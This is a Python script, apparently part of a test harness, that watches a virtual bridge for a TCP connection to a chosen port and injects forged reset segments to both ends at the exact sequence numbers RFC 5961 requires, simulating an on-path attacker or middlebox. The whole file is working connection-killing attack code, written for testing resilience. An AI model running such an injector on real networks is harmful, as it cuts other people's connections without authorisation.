#!/usr/bin/env python3
"""Injects TCP resets into a live connection from outside both ends: an attacker (or a middlebox)
on the guests' bridge. Usage: inject-reset.py BRIDGE PORT SECONDS

Watches the bridge for the connection to PORT (either direction). Once it has seen traffic both
ways, it sends each end a reset with the sequence number that end expects next (the
acknowledgement number of that end's latest segment: RFC 5961 makes TCP accept a reset only at
exactly that number), again as new segments show that number moving, until no segment of the
connection has passed for two seconds after a reset, or SECONDS pass. Prints what it sent.
Standard library only (AF_PACKET); run it in the namespace that holds the bridge.
"""
import socket
import sys
import time

from bridge import open_bridge, parse, tcp_frame


def main():
    bridge, port, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    s = open_bridge(bridge)
    # Per direction (src ip, src port): the latest segment's (eth dst, eth src, ip src, ip dst,
    # sport, dport, ack); the ack is what the sending end expects next from the other.
    latest = {}
    sent = {}  # (ip, port) of the end reset -> the sequence numbers used
    start = time.time()
    quiet_since = None
    while time.time() - start < secs:
        try:
            frame = s.recv(65535)
        except socket.timeout:
            frame = None
        if frame:
            p = parse(frame)
            if p and port in (p["sport"], p["dport"]) and not p["flags"] & 0x04:
                latest[(p["src"], p["sport"])] = (p["eth_dst"], p["eth_src"], p["src"], p["dst"], p["sport"], p["dport"], p["ack"])
                quiet_since = None
        if len(latest) == 2:
            for (ip, sport), (eth_dst, eth_src, ip_src, ip_dst, _, dport, ack) in list(latest.items()):
                # A reset to this segment's sender, as from its peer, at the number it expects.
                used = sent.setdefault((ip, sport), set())
                if ack not in used:
                    # A reset (no ACK) to this segment's sender, as from its peer.
                    s.send(tcp_frame(eth_src, eth_dst, ip_dst, ip_src, dport, sport, ack, 0, 0x04))
                    used.add(ack)
            if quiet_since is None:
                quiet_since = time.time()
            elif time.time() - quiet_since > 2:
                break
    for (ip, sport), used in sent.items():
        print("inject-reset: %d reset(s) to %s:%d" % (len(used), socket.inet_ntoa(ip), sport))
    if len(sent) != 2:
        print("inject-reset: the connection to port %d was not seen both ways" % port)
        sys.exit(1)


if __name__ == "__main__":
    main()
